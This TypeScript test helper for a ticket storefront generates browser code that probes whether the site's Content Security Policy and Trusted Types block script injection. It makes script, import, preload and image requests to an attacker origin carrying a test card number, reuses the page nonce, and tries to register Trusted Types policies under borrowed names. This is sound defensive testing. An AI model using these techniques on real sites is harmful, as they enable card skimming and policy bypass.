import { bootElementId } from '@ticket-storefront/shell/boot';
import { emittedFiles } from '../integrity/emitted-files';
import type { StoreLocation } from '../store/store-location';
import { elsewhereIntegrity } from './elsewhere';

/** What came of the ways that code in a page has tried, by the name of each: `ran`, `refused`, `not known here` or `put off`. */
export type Outcomes = Readonly<Record<string, string>>;

/**
 * What code that runs in a page may try to run more code, or to carry data away by an address: an expression of browser code, a
 * promise of {@link Outcomes}. It takes what the document gives: a nonce, hashes, names of Trusted Types policies.
 * @param elsewhere - origin of the attacker. Each way asks it for a path with the way's name.
 * @param unlisted - address of a released script that the document does not list.
 */
export const waysOut = (elsewhere: string, unlisted: string): string => `(async () => {
  const outcomes = {};
  const addressOf = (way) => '${elsewhere}/' + encodeURIComponent(way) + '?card=4111111111111111';
  const { trustedTypes } = window;
  const boot = JSON.parse(document.getElementById('${bootElementId}').textContent);
  const names = ['dompurify', 'attacker', ...Object.keys(boot.remotes).map((part) => 'storefront#' + part)];
  const plain = { createScriptURL: (text) => text, createScript: (text) => text };
  const own = names.reduce((found, name) => {
    if (found || !trustedTypes) return found;
    try { return trustedTypes.createPolicy(name, plain); } catch { return null; }
  }, null) ?? plain;
  const nonce = document.querySelector('script[nonce]')?.nonce ?? '';
  const inline = document.querySelector('script:not([src]):not([type])').textContent;
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(inline));
  const inlineHash = 'sha256-' + btoa(String.fromCharCode(...new Uint8Array(digest)));

  /** Settles when the browser has allowed or refused it. */
  const settled = (act) => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
    try { act(resolve); } catch (error) { resolve('refused'); }
  });
  const element = (way, name, attributes) => settled((resolve) => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = () => resolve('ran');
    made.onerror = () => resolve('refused');
    // Firefox prefetches nothing while it takes another load to be under way.
    if (attributes.rel === 'prefetch') setTimeout(() => resolve('put off'), 5000);
    document.head.append(made);
  }).then((outcome) => { outcomes[way] = outcome; });
  const script = (way, attributes) =>
    element(way, 'script', { crossOrigin: 'anonymous', nonce, src: own.createScriptURL(addressOf(way)), ...attributes });
  const imported = async (way, address) => {
    outcomes[way] = await import(/* webpackIgnore: true */ address).then(() => 'ran', () => 'refused');
  };

  await script('script', { integrity: '${elsewhereIntegrity}' });
  await script('script with the hash of an inline one', { integrity: inlineHash });
  outcomes['inline script'] = await settled((resolve) => {
    const made = Object.assign(document.createElement('script'), { nonce });
    made.textContent = own.createScript('window.ranInline = true');
    document.head.append(made);
    resolve(window.ranInline ? 'ran' : 'refused');
  });
  await imported('import', addressOf('import'));
  await imported('import of an unlisted release', '${unlisted}');
  await imported('import of data', 'data:text/javascript,0');
  await imported('import of a blob', URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' })));
  for (const rel of ['prefetch', 'modulepreload', 'preload']) {
    if (!document.createElement('link').relList.supports(rel)) outcomes[rel] = 'not known here';
    else await element(rel, 'link', { rel, nonce, href: addressOf(rel), crossOrigin: 'anonymous', ...(rel === 'preload' && { as: 'script' }) });
  }
  await element('picture', 'img', { src: addressOf('picture') });
  return outcomes;
})()`;

/** A released script that the document at a path does not list. */
export async function unlistedScript(store: StoreLocation, path: string): Promise<string> {
  const files = await emittedFiles(store);
  const part = path.endsWith('/checkout') ? 'remote-cart' : 'remote-checkout-mx';
  const found = files.find((file) => file.part === part && file.kind === 'script');
  if (!found) throw new Error(`The store has no script of ${part}.`);
  return found.url;
}
